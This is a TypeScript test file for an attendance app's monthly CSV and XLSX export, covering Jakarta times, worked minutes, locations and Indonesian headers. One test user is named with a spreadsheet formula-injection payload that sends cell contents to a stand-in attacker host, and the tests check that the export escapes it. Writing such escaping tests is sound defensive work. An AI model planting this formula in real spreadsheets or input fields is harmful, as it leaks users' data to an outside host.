import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { repos } from '@absensi/db';
import { dialectsUnderTest } from '@absensi/db/testing';
import { actorOf, type Actor } from '../actor.js';
import { clockIn, clockOut } from '../attendance/clock.js';
import { useCaseDeps } from '../testing/deps.js';
import { exportMonth } from './export-month.js';

const dialects = await dialectsUnderTest();
const jakarta = (local: string) => new Date(`${local}+07:00`);

describe.each(dialects)('the month export on %s', (dialect) => {
  let deps: Awaited<ReturnType<typeof useCaseDeps>>;
  let now = new Date();

  /** A tap made at `local` (Jakarta) on a phone 7 minutes fast, sent `heldMinutes` later. */
  const tap = async (
    action: typeof clockIn,
    who: Actor,
    local: string,
    heldMinutes = 0,
    location?: { lat: number; lng: number; accuracy: number },
  ) => {
    const tapped = jakarta(local).getTime();
    now = new Date(tapped + heldMinutes * 60_000);
    const fast = 7 * 60_000;
    return action({ ...deps, clock: () => now }, who, {
      idempotencyKey: randomUUID(),
      at: new Date(tapped + fast).toISOString(),
      sentAt: new Date(now.getTime() + fast).toISOString(),
      ...(location ? { location } : {}),
    });
  };

  beforeAll(async () => {
    deps = await useCaseDeps(dialect);
    const hire = async (name: string, department: string | null) =>
      actorOf(
        await repos.users.create(deps.db, {
          name,
          email: `${randomUUID()}@example.com`,
          passwordHash: 'x',
          role: 'employee',
          department,
        }),
      );
    const budi = await hire('Budi', 'Gudang');
    const ani = await hire('Ani', 'Kantor');
    const mallory = await hire('=HYPERLINK("http://evil.example/?x="&A1)', null);
    await tap(clockIn, ani, '2026-11-22T08:00:00');
    await tap(clockIn, mallory, '2026-11-22T09:00:00');
    await tap(clockOut, mallory, '2026-11-22T10:30:00');
    await tap(clockOut, ani, '2026-11-22T12:00:00');
    // Budi's Monday was kept offline for three hours and sent with a wrong phone clock.
    await tap(clockIn, budi, '2026-11-23T07:55:00', 180, { lat: -6.2, lng: 106.8, accuracy: 12 });
    await tap(clockOut, budi, '2026-11-23T17:05:00', 0, { lat: -6.21, lng: 106.81, accuracy: 30 });
    await tap(clockIn, ani, '2026-11-23T08:20:00');
    await tap(clockOut, ani, '2026-11-23T16:00:00');
  });
  afterAll(async () => {
    await deps?.close();
  });

  it('lists the effective times by date then name, worked minutes as their difference, and the place of each tap', async () => {
    const progress: number[] = [];
    const file = await exportMonth(
      deps,
      { month: '2026-11', format: 'csv', language: 'en' },
      (percent) => {
        progress.push(percent);
      },
    );
    expect(file).toMatchObject({ fileName: 'absensi-2026-11-en.csv', rowCount: 4 });
    const rows = parse<Record<string, string>>(
      file.content.toString('utf8').replace(/^\uFEFF/, ''),
      { columns: true },
    );
    expect(
      rows.map((row) => [
        row['Work date'],
        row['Employee'],
        row['Clock in'],
        row['Clock out'],
        row['Worked minutes'],
        row['Status'],
      ]),
    ).toEqual([
      [
        '2026-11-22',
        '\'=HYPERLINK("http://evil.example/?x="&A1)',
        '2026-11-22 09:00:00',
        '2026-11-22 10:30:00',
        '90',
        'late',
      ],
      ['2026-11-22', 'Ani', '2026-11-22 08:00:00', '2026-11-22 12:00:00', '240', 'on time'],
      ['2026-11-23', 'Ani', '2026-11-23 08:20:00', '2026-11-23 16:00:00', '460', 'late'],
      ['2026-11-23', 'Budi', '2026-11-23 07:55:00', '2026-11-23 17:05:00', '550', 'on time'],
    ]);
    expect(rows[3]).toMatchObject({
      'Clock-in latitude': '-6.2',
      'Clock-in longitude': '106.8',
      'Clock-in accuracy (m)': '12',
      'Clock-out latitude': '-6.21',
      'Clock-out accuracy (m)': '30',
      'Clock-in source': 'offline',
      Record: 'tap',
      Department: 'Gudang',
    });
    expect(progress.at(-1)).toBe(99);
  });

  it('writes real dates and numbers in the XLSX, under a frozen header', async () => {
    const file = await exportMonth(
      deps,
      { month: '2026-11', format: 'xlsx', language: 'en' },
      () => undefined,
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.content as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    const column = (name: string) => header.indexOf(name) + 1;
    const budi = sheet.getRow(5);
    expect(budi.getCell(column('Employee')).value).toBe('Budi');
    expect(budi.getCell(column('Work date')).value).toEqual(new Date('2026-11-23T00:00:00Z'));
    // Wall-clock time in Jakarta, as the spreadsheet shows it.
    expect(budi.getCell(column('Clock in')).value).toEqual(new Date('2026-11-23T07:55:00Z'));
    expect(budi.getCell(column('Worked minutes')).value).toBe(550);
    expect(budi.getCell(column('Clock-in latitude')).value).toBe(-6.2);
    // A formula typed as a name stays text in a workbook: it is not a formula cell.
    expect(sheet.getRow(2).getCell(column('Employee')).type).toBe(ExcelJS.ValueType.String);
  });

  it('writes its headers and words in Indonesian unless asked for English', async () => {
    const file = await exportMonth(deps, { month: '2026-11', format: 'xlsx' }, () => undefined);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.content as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const header = (sheet.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 8)).toEqual([
      'Tanggal kerja',
      'Karyawan',
      'Email',
      'Departemen',
      'Jam masuk',
      'Jam pulang',
      'Menit kerja',
      'Status',
    ]);
    const column = (name: string) => header.indexOf(name) + 1;
    const budi = sheet.getRow(5);
    expect(budi.getCell(column('Karyawan')).value).toBe('Budi');
    expect(budi.getCell(column('Status')).value).toBe('tepat waktu');
    expect(budi.getCell(column('Sumber absen masuk')).value).toBe('offline (tanpa internet)');
    expect(budi.getCell(column('Asal catatan')).value).toBe('absen');
    expect(sheet.getRow(4).getCell(column('Status')).value).toBe('terlambat');
    expect(file.fileName).toBe('absensi-2026-11-id.xlsx');
  });

  it('writes the Indonesian CSV as Excel in Indonesian reads it: `;` between cells, decimal commas', async () => {
    const file = await exportMonth(
      deps,
      { month: '2026-11', format: 'csv', language: 'id' },
      () => undefined,
    );
    expect(file.fileName).toBe('absensi-2026-11-id.csv');
    const text = file.content.toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text.split('\n')[0]).toMatch(
      /^\uFEFFTanggal kerja;Karyawan;Email;Departemen;Jam masuk;/,
    );
    const rows = parse<Record<string, string>>(text.replace(/^\uFEFF/, ''), {
      columns: true,
      delimiter: ';',
    });
    expect(rows[3]).toMatchObject({
      Karyawan: 'Budi',
      'Menit kerja': '550',
      'Lintang absen masuk': '-6,2',
      'Bujur absen masuk': '106,8',
      'Lintang absen pulang': '-6,21',
    });
  });
});
